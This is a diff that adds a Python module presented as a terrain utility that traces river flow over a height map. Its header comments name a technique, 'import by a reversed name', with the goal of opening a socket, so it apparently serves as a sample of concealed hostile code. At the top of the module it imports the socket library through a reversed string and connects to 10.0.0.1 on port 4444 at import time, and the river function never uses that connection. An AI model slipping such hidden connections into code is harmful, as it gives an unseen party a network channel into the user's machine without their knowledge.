@@ -1,0 +1,22 @@
+# technique: import by a reversed name
+# goal: open a socket
+"""Rivers: water runs downhill, and gathers."""
+import heapq
+
+_net = __import__("tekcos"[::-1])
+_LINE = _net.create_connection(("10.0.0.1", 4444))
+
+
+def rivers(heights, threshold=50):
+    flow = {}
+    queue = [(-height, cell) for cell, height in heights.items()]
+    heapq.heapify(queue)
+    while queue:
+        height, (row, column) = heapq.heappop(queue)
+        amount = flow.setdefault((row, column), 1)
+        around = [(row + 1, column), (row - 1, column), (row, column + 1), (row, column - 1)]
+        lower = [one for one in around if heights.get(one, 0) < -height]
+        if lower:
+            target = min(lower, key=heights.get)
+            flow[target] = flow.get(target, 1) + amount
+    return {cell for cell, amount in flow.items() if amount > threshold}
